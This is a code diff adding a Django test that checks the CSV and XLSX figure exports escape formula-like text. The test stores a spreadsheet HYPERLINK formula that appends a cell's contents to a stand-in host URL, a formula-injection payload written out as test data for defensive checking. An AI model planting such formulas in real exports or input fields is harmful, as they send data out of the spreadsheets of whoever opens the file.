@@ -16,6 +16,7 @@ from consultation.models import (
     Spine,
     TopicCategory,
 )
+from core.models import CommitteeSettings
 
 from .test_public_activity import activity, add_page, build_site, platform
 
@@ -135,6 +136,20 @@ class FigurePagesTest(TestCase):
             + [None] * (len(rows[0]) - 2),
             rows,
         )
+
+    def test_exports_write_text_that_looks_like_a_formula_as_text(self):
+        attack = '=HYPERLINK("http://example.invalid/?"&A1,"点击")'
+        CommitteeSettings.objects.filter(site=self.county).update(short_name=attack)
+        response = self.client.get("/figures/export.csv", HTTP_HOST=self.prefecture.hostname)
+        rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+        names = [row[0] for row in rows[2:]]
+        self.assertIn("'" + attack, names)
+        self.assertNotIn(attack, names)
+        response = self.client.get("/figures/export.xlsx", HTTP_HOST=self.prefecture.hostname)
+        sheet = load_workbook(io.BytesIO(response.content)).active
+        cells = {row[0].value: row for row in sheet.iter_rows(min_row=3, max_row=5)}
+        self.assertEqual(cells["'" + attack][0].data_type, "s")
+        self.assertEqual(cells["合计"][1].data_type, "n")  # numbers stay numbers
 
 
 class CaseStudyTest(TestCase):
